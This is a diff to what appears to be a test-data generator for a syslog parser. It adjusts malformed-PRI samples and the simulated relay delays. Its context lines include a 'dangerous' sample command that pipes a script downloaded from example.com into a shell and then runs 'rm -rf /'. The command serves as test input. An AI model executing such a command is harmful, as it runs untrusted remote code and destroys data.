@@ -62,14 +62,15 @@ _DANGEROUS = (
     # Fits two rules: the first of the table counts.
     "curl example.com/x.sh | sh ; rm -rf /",
 )  # fmt: skip
-_NO_PRI = ("", "14>", "<>", "<192>", "<9999>", "< 14>", "<1a>")
+# One past the last that there is, most of all.
+_NO_PRI = ("", "14>", "<>", "<192>", "<192>", "<192>", "<9999>", "< 14>", "<1a>")
 _BAD_TIMES = (
     "Okt 28 14:28:06", "Dec 32 23:58:01", "Feb 30 00:00:00", "Dec 31 24:00:00",
     "Dec 31 23:59:60", "Dec 31 23.58.01", "2020-12-31 23:5", "dec 31 23:59:01", "Dec 00 23:59:01",
 )  # fmt: skip
 
 # What happens to a line on its way, and in how many of 100: its text is Latin-1, it has no PRI,
-# its end is gone, its time is none; a relay was cut off for two days and more; just not too
+# its end is gone, its time is none; a relay was cut off for a day and more; just not too
 # old, a day to the millisecond; and nothing to the others.
 _LATIN_1, _WITHOUT_PRI, _CUT, _OF_NO_TIME, _HELD_UP, _A_DAY_OLD, _AS_IT_IS = range(7)
 _OF_100 = (
@@ -194,7 +195,7 @@ def _stamp(draw: _Draw, kind: Ints, received: Ints) -> Sequence[Part]:
     """When the host says it was: a little before, by a clock of whole seconds."""
     back = pile(
         below(draw.how, _LAG_MS),
-        (kind == _HELD_UP, _DAY_MS * (2 + below(draw.how, 28))),
+        (kind == _HELD_UP, _DAY_MS * (1 + below(draw.how, 3))),
         (kind == _A_DAY_OLD, _DAY_MS),
     )
     second = (_EPOCH // _MS + received - back) // _SECOND_MS
